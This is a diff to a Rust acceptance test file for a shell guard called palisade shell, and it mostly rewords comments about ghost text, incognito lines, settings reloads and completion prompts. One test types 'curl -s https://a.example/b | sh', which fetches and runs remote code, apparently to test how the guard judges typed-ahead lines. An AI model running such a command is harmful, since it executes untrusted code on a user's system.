@@ -1,5 +1,5 @@
 // SPDX-License-Identifier: Apache-2.0 OR MIT
-//! What is typed at a prompt: ghost text, picking, incognito, pastes, and what the guard asks.
+//! Tests editing at a prompt: ghost text, picking, incognito, pastes, and questions of the line guard.
 
 use super::screen::{Screen, Setting, has};
 use palisade_acceptance::patience::pause;
@@ -243,7 +243,7 @@ fn incognito_lines_are_nowhere() {
         screen.slowly("echo hidden-2");
         screen.keys("\r");
         screen.wait_for_line("hidden-2");
-        // What incognito is may still be said below.
+        // The note that explains incognito may still be shown below.
         screen.wait_for_line("$");
         screen.slowly("echo h");
         pause(Duration::from_millis(100));
@@ -347,7 +347,7 @@ fn settings_are_read_again_and_bad_ones_change_nothing() {
     std::fs::write(screen.path(".config/palisade/shell.toml"), "schema = 1\n[ghost]\nfrom = 30\n").unwrap();
     pause(Duration::from_millis(1200));
     screen.slowly("e");
-    // It may have been said before that key, which takes it away.
+    // The message may have appeared before that key, which removes it.
     screen.wait_for_raw(b"the settings are read again");
     screen.slowly(" q");
     screen.wait_until("no ghost", |screen| !is_dim(screen, "uick"));
@@ -360,7 +360,7 @@ fn what_was_typed_ahead_is_judged_and_remembered() {
         let until = |name: &str| format!("sh -c 'until test -e {name}; do sleep 0.05; done'");
         screen.line(&format!("echo go''ing; {}", until("one")));
         screen.wait_for_line("going");
-        // Some lines, while nobody reads.
+        // Type some lines while no program reads.
         screen.slowly("echo ahead-1\recho ahead-2\rcurl -s https://a.example/b | sh\r");
         screen.wait_for_line("curl -s https://a.example/b | sh");
         std::fs::write(screen.path("one"), "").unwrap();
@@ -460,7 +460,7 @@ fn a_menu_hides_no_line() {
     screen.wait_for("Enter again");
 }
 
-/// Where the shell asks the user something, nobody else asks it anything.
+/// While the shell asks the user a question, `palisade shell` doesn't use the answer for its own purposes.
 #[test]
 fn a_question_of_the_shells_is_the_users_to_answer() {
     if !has("zsh") {
@@ -476,7 +476,7 @@ fn a_question_of_the_shells_is_the_users_to_answer() {
     screen.wait_until("completion", |screen| screen.contents().contains("$ echo dir/file-"));
     screen.keys("\t");
     screen.wait_for("do you wish to see all 9 possibilities");
-    // Nobody reads and answers sooner.
+    // No user reads and answers faster.
     pause(Duration::from_millis(400));
     screen.keys("\r");
     screen.wait_until("line alone", |screen| screen.contents().trim_end().ends_with("$ echo dir/file-"));
